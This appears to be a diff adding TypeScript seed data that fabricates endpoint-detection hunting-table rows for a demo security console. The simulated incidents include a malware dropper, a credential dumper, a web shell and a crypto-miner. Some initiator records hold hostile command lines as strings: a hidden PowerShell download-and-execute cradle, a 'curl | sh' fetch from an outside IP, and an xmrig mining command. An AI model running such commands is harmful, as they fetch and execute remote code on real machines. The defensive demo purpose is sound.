@@ -1,0 +1,428 @@
+import { HuntingTableName, makeRow } from '../hunting/hunting-tables.schema';
+import { HuntingRow, HuntingValue, Machine } from '../model/entities';
+import { SEED_USERS } from './alerts.seed';
+import { ago } from './seed.builders';
+import { DEMO_MACHINE_IDS, OTHER_MACHINE_ID, SEED_FILES, SEED_NETWORK, SeedFileHashes, SYSTEM_FILES } from './seed.constants';
+import { DEMO_MACHINES, OTHER_MACHINES, SEED_ADAPTERS } from './machines.seed';
+
+const ALL_MACHINES = [...DEMO_MACHINES, ...OTHER_MACHINES];
+let reportId = 9100;
+
+function device(machineId: string): Pick<Machine, 'id' | 'computerDnsName'> {
+  const m = ALL_MACHINES.find((x) => x.id === machineId);
+  if (!m) throw new Error(`unknown seed machine ${machineId}`);
+  return m;
+}
+
+interface Initiator {
+  file: SeedFileHashes;
+  folder: string;
+  processId: number;
+  commandLine: string;
+  created: string;
+  size: number;
+  account: { name: string; domain: string; sid: string; upn: string | null; aadUserId: string | null };
+  parent: { fileName: string; processId: number; created: string };
+  integrity?: string;
+}
+
+function initiatorColumns(p: Initiator): Record<string, HuntingValue> {
+  return {
+    InitiatingProcessAccountDomain: p.account.domain,
+    InitiatingProcessAccountName: p.account.name,
+    InitiatingProcessAccountSid: p.account.sid,
+    InitiatingProcessAccountUpn: p.account.upn ?? '',
+    InitiatingProcessAccountObjectId: p.account.aadUserId ?? '',
+    InitiatingProcessMD5: p.file.md5,
+    InitiatingProcessSHA1: p.file.sha1,
+    InitiatingProcessSHA256: p.file.sha256,
+    // The folder path of the initiating process includes its file name.
+    InitiatingProcessFolderPath: joinPath(p.folder, p.file.fileName),
+    InitiatingProcessFileName: p.file.fileName,
+    InitiatingProcessFileSize: p.size,
+    InitiatingProcessId: p.processId,
+    InitiatingProcessCommandLine: p.commandLine,
+    InitiatingProcessCreationTime: p.created,
+    InitiatingProcessIntegrityLevel: p.integrity ?? 'Medium',
+    InitiatingProcessTokenElevation: 'TokenElevationTypeDefault',
+    InitiatingProcessParentId: p.parent.processId,
+    InitiatingProcessParentFileName: p.parent.fileName,
+    InitiatingProcessParentCreationTime: p.parent.created,
+    InitiatingProcessSessionId: p.folder.startsWith('/') ? null : 1,
+    IsInitiatingProcessRemoteSession: false,
+  };
+}
+
+function joinPath(folder: string, name: string): string {
+  return folder.startsWith('/') ? `${folder}/${name}` : `${folder}\\${name}`;
+}
+
+interface FileEventInput {
+  machineId: string;
+  minutesAgo: number;
+  actionType: 'FileCreated' | 'FileModified' | 'FileRenamed' | 'FileDeleted';
+  file: SeedFileHashes;
+  folder: string;
+  size: number;
+  /** DeviceFileEvents.SHA256 is often empty in real data. */
+  withSha256: boolean;
+  by: Initiator;
+  extra?: Record<string, HuntingValue>;
+}
+
+function fileEvent(e: FileEventInput): HuntingRow {
+  const d = device(e.machineId);
+  return makeRow('DeviceFileEvents', {
+    Timestamp: ago(e.minutesAgo),
+    DeviceId: d.id,
+    DeviceName: d.computerDnsName,
+    ActionType: e.actionType,
+    FileName: e.file.fileName,
+    FolderPath: joinPath(e.folder, e.file.fileName),
+    SHA1: e.file.sha1,
+    SHA256: e.withSha256 ? e.file.sha256 : '',
+    MD5: e.file.md5,
+    FileSize: e.size,
+    RequestProtocol: 'Local',
+    ReportId: (reportId += 7),
+    ...initiatorColumns(e.by),
+    ...e.extra,
+  });
+}
+
+interface NetworkEventInput {
+  machineId: string;
+  minutesAgo: number;
+  actionType: 'ConnectionSuccess' | 'ConnectionFailed' | 'InboundConnectionAccepted' | 'ConnectionRequest';
+  remoteIp: string;
+  remotePort: number;
+  remoteUrl: string;
+  localIp: string;
+  localPort: number;
+  by: Initiator;
+}
+
+function networkEvent(e: NetworkEventInput): HuntingRow {
+  const d = device(e.machineId);
+  return makeRow('DeviceNetworkEvents', {
+    Timestamp: ago(e.minutesAgo),
+    DeviceId: d.id,
+    DeviceName: d.computerDnsName,
+    ActionType: e.actionType,
+    RemoteIP: e.remoteIp,
+    RemotePort: e.remotePort,
+    RemoteUrl: e.remoteUrl,
+    LocalIP: e.localIp,
+    LocalPort: e.localPort,
+    Protocol: 'Tcp',
+    LocalIPType: e.localIp.includes(':') ? 'Public' : 'Private',
+    RemoteIPType: 'Public',
+    ReportId: (reportId += 7),
+    ...initiatorColumns(e.by),
+  });
+}
+
+/** One DeviceNetworkInfo row per adapter, plus an older row where the adapter had another address. */
+function networkInfoRows(machineId: string, minutesAgo: number): HuntingRow[] {
+  const d = device(machineId);
+  return (SEED_ADAPTERS[machineId] ?? []).flatMap((a) => {
+    const row = (ipv4: string, when: number): HuntingRow =>
+      makeRow('DeviceNetworkInfo', {
+        Timestamp: ago(when),
+        DeviceId: d.id,
+        DeviceName: d.computerDnsName,
+        NetworkAdapterName: a.name,
+        MacAddress: a.mac,
+        NetworkAdapterType: a.type,
+        NetworkAdapterStatus: a.status,
+        ConnectedNetworks:
+          a.status === 'Up'
+            ? JSON.stringify([{ Name: a.network.name, Description: a.network.name, IsConnectedToInternet: true, Category: a.network.category }])
+            : '',
+        DnsAddresses: JSON.stringify(a.dns),
+        IPv4Dhcp: a.gateway ? a.gateway.replace(/\.\d+$/, '.5') : '',
+        DefaultGateways: JSON.stringify(a.gateway ? [a.gateway] : []),
+        IPAddresses: JSON.stringify([
+          { IPAddress: ipv4, SubnetPrefix: a.prefix, AddressType: ipv4.startsWith('169.254.') ? 'LinkLocal' : 'Private' },
+          ...a.ipv6.map((ip) => ({
+            IPAddress: ip,
+            SubnetPrefix: 64,
+            AddressType: ip.startsWith('fe80:') ? 'LinkLocal' : 'Public',
+          })),
+        ]),
+        ReportId: (reportId += 7),
+        NetworkAdapterVendor: a.vendor,
+      });
+    const rows = [row(a.ipv4, minutesAgo)];
+    if (a.previousIpv4) rows.push(row(a.previousIpv4, minutesAgo + 6 * 24 * 60));
+    return rows;
+  });
+}
+
+const OUTLOOK: Initiator = {
+  file: SYSTEM_FILES.outlook,
+  folder: 'C:\\Program Files\\Microsoft Office\\root\\Office16',
+  processId: 5120,
+  commandLine: '"OUTLOOK.EXE"',
+  created: ago(3190),
+  size: 42_125_736,
+  account: SEED_USERS.jdoe,
+  parent: { fileName: 'explorer.exe', processId: 4012, created: ago(3300) },
+};
+const DROPPER: Initiator = {
+  file: SEED_FILES.emotetDropper,
+  folder: 'C:\\Users\\jdoe\\Downloads',
+  processId: 7412,
+  commandLine: '"invoice_2026_11.pdf.exe"',
+  created: ago(3048),
+  size: 284_672,
+  account: SEED_USERS.jdoe,
+  parent: { fileName: 'OUTLOOK.EXE', processId: 5120, created: ago(3190) },
+};
+const CRADLE: Initiator = {
+  file: SYSTEM_FILES.powershell,
+  folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
+  processId: 9936,
+  commandLine:
+    'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://badcdn-delivery.example/payload/stage2.ps1\')"',
+  created: ago(1562),
+  size: 452_608,
+  account: SEED_USERS.asmith,
+  parent: { fileName: 'explorer.exe', processId: 4388, created: ago(2100) },
+};
+const SYSTEM_SMB: Initiator = {
+  file: { fileName: 'System', sha1: '', sha256: '', md5: '' },
+  folder: '',
+  processId: 4,
+  commandLine: '',
+  created: ago(20_000),
+  size: 0,
+  account: SEED_USERS.system,
+  parent: { fileName: '', processId: 0, created: ago(20_000) },
+  integrity: 'System',
+};
+const W3WP: Initiator = {
+  file: SYSTEM_FILES.w3wp,
+  folder: 'C:\\Windows\\System32\\inetsrv',
+  processId: 2604,
+  commandLine: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0"',
+  created: ago(9000),
+  size: 31_232,
+  account: SEED_USERS.iisPool,
+  parent: { fileName: 'svchost.exe', processId: 1180, created: ago(20_000) },
+};
+const EDGE: Initiator = {
+  file: SYSTEM_FILES.msedge,
+  folder: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application',
+  processId: 7720,
+  commandLine: '"msedge.exe" --single-argument https://www.7-zip.org/download.html',
+  created: ago(6010),
+  size: 4_262_936,
+  account: { name: 'svc-deploy', domain: 'CONTOSODEMO', sid: 'S-1-5-21-3623811015-3361044348-30300820-3001', upn: null, aadUserId: null },
+  parent: { fileName: 'explorer.exe', processId: 3300, created: ago(6100) },
+};
+const XMRIG: Initiator = {
+  file: SEED_FILES.xmrig,
+  folder: '/tmp/.cache',
+  processId: 48211,
+  commandLine: `/tmp/.cache/xmrig -o stratum+tcp://${SEED_NETWORK.miningPoolDomain}:3333 --donate-level 1`,
+  created: ago(716),
+  size: 8_454_136,
+  account: SEED_USERS.builder,
+  parent: { fileName: 'bash', processId: 48190, created: ago(717) },
+};
+const BASH: Initiator = {
+  file: SYSTEM_FILES.bash,
+  folder: '/usr/bin',
+  processId: 48190,
+  commandLine: 'bash -c "curl -s http://203.0.113.45/x | sh"',
+  created: ago(717),
+  size: 1_396_520,
+  account: SEED_USERS.builder,
+  parent: { fileName: 'sshd', processId: 1022, created: ago(9000) },
+};
+const LAUNCHD: Initiator = {
+  file: SYSTEM_FILES.launchd,
+  folder: '/sbin',
+  processId: 1,
+  commandLine: '/sbin/launchd',
+  created: ago(30_000),
+  size: 1_243_776,
+  account: SEED_USERS.system,
+  parent: { fileName: 'kernel_task', processId: 0, created: ago(30_000) },
+};
+const MACCLEANER: Initiator = {
+  file: SEED_FILES.macCleaner,
+  folder: '/Applications/MacCleanerPro.app/Contents/MacOS',
+  processId: 811,
+  commandLine: '/Applications/MacCleanerPro.app/Contents/MacOS/MacCleanerPro',
+  created: ago(4999),
+  size: 3_145_728,
+  account: SEED_USERS.mlopez,
+  parent: { fileName: 'launchd', processId: 1, created: ago(30_000) },
+};
+const OTHER_LOADER: Initiator = {
+  file: SEED_FILES.otherLoader,
+  folder: 'C:\\Users\\labuser\\Desktop',
+  processId: 3004,
+  commandLine: '"other-loader.exe"',
+  created: ago(406),
+  size: 96_256,
+  account: { name: 'labuser', domain: 'FABRIKAM', sid: 'S-1-5-21-1111111111-2222222222-3333333333-1001', upn: null, aadUserId: null },
+  parent: { fileName: 'explorer.exe', processId: 2100, created: ago(900) },
+};
+
+const M = DEMO_MACHINE_IDS;
+
+export const DEMO_HUNTING: Record<HuntingTableName, HuntingRow[]> = {
+  DeviceFileEvents: [
+    fileEvent({
+      machineId: M.win10, minutesAgo: 3050, actionType: 'FileCreated', file: SEED_FILES.emotetDropper,
+      folder: 'C:\\Users\\jdoe\\Downloads', size: 284_672, withSha256: true, by: OUTLOOK,
+    }),
+    fileEvent({
+      machineId: M.win10, minutesAgo: 3047, actionType: 'FileCreated', file: { ...SEED_FILES.emotetDropper, fileName: 'OneDriveSync.exe' },
+      folder: 'C:\\Users\\jdoe\\AppData\\Roaming\\OneDriveSync', size: 284_672, withSha256: false, by: DROPPER,
+    }),
+    fileEvent({
+      machineId: M.win11, minutesAgo: 1560, actionType: 'FileCreated', file: SEED_FILES.svcUpdater,
+      folder: 'C:\\ProgramData\\SvcUpdater', size: 118_784, withSha256: true, by: CRADLE,
+      extra: {
+        FileOriginUrl: `https://${SEED_NETWORK.payloadSubdomain}/u/svc-updater.dll`,
+        FileOriginIP: SEED_NETWORK.payloadSubdomainIp,
+      },
+    }),
+    fileEvent({
+      machineId: M.server2019, minutesAgo: 1500, actionType: 'FileCreated', file: SEED_FILES.svcUpdater,
+      folder: 'C:\\Windows\\System32', size: 118_784, withSha256: false, by: SYSTEM_SMB,
+      extra: {
+        RequestProtocol: 'SMB', RequestSourceIP: '10.20.30.18', RequestSourcePort: 50112,
+        RequestAccountName: 'adm-asmith', RequestAccountDomain: 'CONTOSODEMO',
+        RequestAccountSid: SEED_USERS.admAsmith.sid, ShareName: 'ADMIN$',
+      },
+    }),
+    fileEvent({
+      machineId: M.server2019, minutesAgo: 1481, actionType: 'FileCreated', file: SEED_FILES.credDumper,
+      folder: 'C:\\Windows\\Temp', size: 424_856, withSha256: false, by: SYSTEM_SMB,
+      extra: { RequestProtocol: 'SMB', RequestSourceIP: '10.20.30.18', ShareName: 'ADMIN$' },
+    }),
+    fileEvent({
+      machineId: M.server2022, minutesAgo: 6000, actionType: 'FileCreated', file: SEED_FILES.sevenZip,
+      folder: 'C:\\Users\\svc-deploy\\Downloads', size: 1_613_600, withSha256: true, by: EDGE,
+      extra: {
+        FileOriginUrl: 'https://www.7-zip.org/a/7z2408-x64.exe',
+        FileOriginReferrerUrl: 'https://www.7-zip.org/download.html',
+        FileOriginIP: SEED_NETWORK.benignIp,
+      },
+    }),
+    fileEvent({
+      machineId: M.server2022, minutesAgo: 4300, actionType: 'FileCreated', file: SEED_FILES.webShell,
+      folder: 'C:\\inetpub\\wwwroot\\aspnet_client', size: 2_214, withSha256: true, by: W3WP,
+    }),
+    fileEvent({
+      machineId: M.server2022, minutesAgo: 4100, actionType: 'FileModified', file: SEED_FILES.webShell,
+      folder: 'C:\\inetpub\\wwwroot\\aspnet_client', size: 2_214, withSha256: false, by: W3WP,
+    }),
+    fileEvent({
+      machineId: M.linux, minutesAgo: 717, actionType: 'FileCreated', file: SEED_FILES.xmrig,
+      folder: '/tmp/.cache', size: 8_454_136, withSha256: true, by: BASH,
+    }),
+    fileEvent({
+      machineId: M.macos, minutesAgo: 5001, actionType: 'FileCreated', file: SEED_FILES.macCleaner,
+      folder: '/Applications/MacCleanerPro.app/Contents/MacOS', size: 3_145_728, withSha256: true, by: LAUNCHD,
+    }),
+  ],
+  DeviceNetworkEvents: [
+    networkEvent({
+      machineId: M.win10, minutesAgo: 3046, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.c2Ip, remotePort: 443,
+      remoteUrl: '', localIp: '10.20.14.37', localPort: 52114, by: DROPPER,
+    }),
+    networkEvent({
+      machineId: M.win10, minutesAgo: 2820, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.c2Ip, remotePort: 443,
+      remoteUrl: '', localIp: '10.20.14.37', localPort: 53390, by: DROPPER,
+    }),
+    networkEvent({
+      machineId: M.win11, minutesAgo: 1561, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.c2Ip, remotePort: 80,
+      remoteUrl: SEED_NETWORK.payloadDomain, localIp: '192.168.1.54', localPort: 61022, by: CRADLE,
+    }),
+    networkEvent({
+      machineId: M.win11, minutesAgo: 1560.5, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.payloadSubdomainIp,
+      remotePort: 443, remoteUrl: SEED_NETWORK.payloadSubdomain, localIp: '192.168.1.54', localPort: 61030, by: CRADLE,
+    }),
+    networkEvent({
+      machineId: M.win11, minutesAgo: 1150, actionType: 'ConnectionFailed', remoteIp: SEED_NETWORK.c2Ip, remotePort: 80,
+      remoteUrl: SEED_NETWORK.payloadDomain, localIp: '192.168.1.54', localPort: 61877, by: CRADLE,
+    }),
+    networkEvent({
+      machineId: M.server2022, minutesAgo: 6005, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.benignIp, remotePort: 443,
+      remoteUrl: SEED_NETWORK.benignDomain, localIp: '10.20.2.21', localPort: 49822, by: EDGE,
+    }),
+    networkEvent({
+      machineId: M.server2022, minutesAgo: 4200, actionType: 'InboundConnectionAccepted', remoteIp: SEED_NETWORK.webShellClientIpv6,
+      remotePort: 51544, remoteUrl: '', localIp: '2001:db8:4a2f:10::21', localPort: 443, by: W3WP,
+    }),
+    networkEvent({
+      machineId: M.server2022, minutesAgo: 600, actionType: 'InboundConnectionAccepted', remoteIp: SEED_NETWORK.webShellClientIpv6,
+      remotePort: 51980, remoteUrl: '', localIp: '2001:db8:4a2f:10::21', localPort: 443, by: W3WP,
+    }),
+    networkEvent({
+      machineId: M.linux, minutesAgo: 715, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.miningPoolIp, remotePort: 3333,
+      remoteUrl: SEED_NETWORK.miningPoolDomain, localIp: '10.20.3.40', localPort: 40122, by: XMRIG,
+    }),
+    networkEvent({
+      machineId: M.macos, minutesAgo: 4998, actionType: 'ConnectionSuccess', remoteIp: '203.0.113.99', remotePort: 443,
+      remoteUrl: 'telemetry.maccleanerpro.example', localIp: '192.168.7.23', localPort: 50331, by: MACCLEANER,
+    }),
+  ],
+  DeviceNetworkInfo: [
+    ...networkInfoRows(M.win10, 30),
+    ...networkInfoRows(M.win11, 1190),
+    ...networkInfoRows(M.server2019, 15),
+    ...networkInfoRows(M.server2022, 20),
+    ...networkInfoRows(M.linux, 45),
+    ...networkInfoRows(M.macos, 60),
+  ],
+  DeviceProcessEvents: [
+    makeRow('DeviceProcessEvents', {
+      Timestamp: ago(3048),
+      DeviceId: M.win10,
+      DeviceName: device(M.win10).computerDnsName,
+      ActionType: 'ProcessCreated',
+      FileName: SEED_FILES.emotetDropper.fileName,
+      FolderPath: `C:\\Users\\jdoe\\Downloads\\${SEED_FILES.emotetDropper.fileName}`,
+      SHA1: SEED_FILES.emotetDropper.sha1,
+      SHA256: SEED_FILES.emotetDropper.sha256,
+      MD5: SEED_FILES.emotetDropper.md5,
+      FileSize: 284_672,
+      ProcessId: 7412,
+      ProcessCommandLine: '"invoice_2026_11.pdf.exe"',
+      ProcessIntegrityLevel: 'Medium',
+      ProcessTokenElevation: 'TokenElevationTypeLimited',
+      ProcessCreationTime: ago(3048),
+      AccountDomain: 'contosodemo',
+      AccountName: 'jdoe',
+      AccountSid: SEED_USERS.jdoe.sid,
+      AccountUpn: SEED_USERS.jdoe.upn,
+      ReportId: 8801,
+      InitiatingProcessFileName: 'OUTLOOK.EXE',
+      InitiatingProcessId: 5120,
+    }),
+  ],
+};
+
+export const OTHER_HUNTING: Record<HuntingTableName, HuntingRow[]> = {
+  DeviceFileEvents: [
+    fileEvent({
+      machineId: OTHER_MACHINE_ID, minutesAgo: 407, actionType: 'FileCreated', file: SEED_FILES.otherLoader,
+      folder: 'C:\\Users\\labuser\\Desktop', size: 96_256, withSha256: true, by: OTHER_LOADER,
+    }),
+  ],
+  DeviceNetworkEvents: [
+    networkEvent({
+      machineId: OTHER_MACHINE_ID, minutesAgo: 405, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.c2Ip, remotePort: 443,
+      remoteUrl: '', localIp: '172.16.4.20', localPort: 55001, by: OTHER_LOADER,
+    }),
+  ],
+  DeviceNetworkInfo: networkInfoRows(OTHER_MACHINE_ID, 25),
+  DeviceProcessEvents: [],
+};
